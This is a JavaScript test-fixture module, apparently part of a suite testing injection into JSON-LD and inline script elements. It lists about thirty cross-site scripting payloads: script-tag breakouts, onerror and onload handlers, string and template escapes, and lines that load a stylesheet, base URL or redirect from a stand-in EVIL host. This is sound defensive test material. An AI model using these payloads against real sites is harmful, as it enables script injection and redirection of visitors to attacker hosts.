// @ts-check
/** Texts that leave a script element of JSON, as structured data is written. */
import { EVIL, RUN, vectors } from './vector.mjs';

/** What a site writes that escapes quotes and nothing else. @param {string} text */
const careless = (text) => ({ careless: `<script type="application/ld+json">{"headline":"${text.replaceAll('"', '\\"')}"}</script>` });
/** … and that does not even escape quotes, in a script that runs. @param {string} text */
const running = (text) => ({ careless: `<script>var data = {"headline":"${text}"}</script>` });
/** … that escapes quotes there, but no backslashes. @param {string} text */
const escaping = (text) => running(text.replaceAll('"', '\\"'));
/** … in single quotes. @param {string} text */
const runningInSingleQuotes = (text) => ({ careless: `<script>var data = {headline:'${text}'}</script>` });
/** … in a template. @param {string} text */
const runningInTemplate = (text) => ({ careless: `<script>var data = \`${text}\`</script>` });

/** @type {import('./vector.mjs').Family} */
export default {
  name: 'JSON-LD',
  vectors: [
    ...vectors(
      {
        'end of a script': `x</script><script>${RUN}</script>`,
        'end of a script in capitals': `</SCRIPT><SCRIPT>${RUN}</SCRIPT>`,
        'end of a script in mixed case': `</sCrIpT><img src=x onerror=${RUN}>`,
        'end of a script with a space': `</script ><script>${RUN}</script>`,
        'end of a script with a tab': `</script\t><script>${RUN}</script>`,
        'end of a script with a line feed': `</script\n><script>${RUN}</script>`,
        'end of a script with a slash': `</script/><script>${RUN}</script>`,
        'end of a script with an attribute': `</script x><script>${RUN}</script>`,
        'end of a script, then a picture': `</script><img src=x onerror=${RUN}>`,
        'end of a script, then an svg': `</script><svg onload=${RUN}>`,
        'end of a script, then a link': `</script><link rel=stylesheet href=${EVIL}/ld.css>`,
        'end of a script, then a base': `</script><base href=${EVIL}/><script src=x.js></script>`,
        'end of a script, then a refresh': `</script><meta http-equiv=refresh content=0;url=${EVIL}/ld>`,
        'end of a script in the middle': `A headline</script><script>${RUN}</script> that goes on`,
        'end of a script, twice': `</script></script><script>${RUN}</script>`,
        'end of a script within a comment': `<!--</script><script>${RUN}</script>-->`,
        'end of a script behind an escape': `\\</script><script>${RUN}</script>`,
        'a comment and a script, which hide the end': `<!--<script>`,
        'a comment and a script, closed': `<!--<script></script><script>${RUN}</script>-->`,
        'the end of a section of text': `]]></script><script>${RUN}</script>`,
      },
      careless,
    ),
    ...vectors(
      {
        'out of a text': `"+(${RUN})+"`,
        'out of a text and an object': `"};${RUN};x={"y":"`,
        'out of a text, with a comment': `"};${RUN}//`,
        'out of a text, with a line feed': `"}\n;${RUN}//`,
        'out of a text, with a line separator': `"}\u2028${RUN}//`,
      },
      running,
    ),
    ...vectors({ 'out of a text by a backslash': `\\"};${RUN}//` }, escaping),
    ...vectors({ 'out of a text in single quotes': `'};${RUN}//` }, runningInSingleQuotes),
    ...vectors({ 'into a template': `\${${RUN}}`, 'out of a template': `\`;${RUN};\`` }, runningInTemplate),
    ...vectors(
      {
        'control characters': `x\x00\x07\x08\x0b\x1b</script><script>${RUN}</script>`,
        'keys of the language': `__proto__</script><script>${RUN}</script>`,
        'a type of its own': `","@type":"Evil</script><script>${RUN}</script>`,
      },
      careless,
    ),
  ],
  runs: 27,
  shows: 31,
};
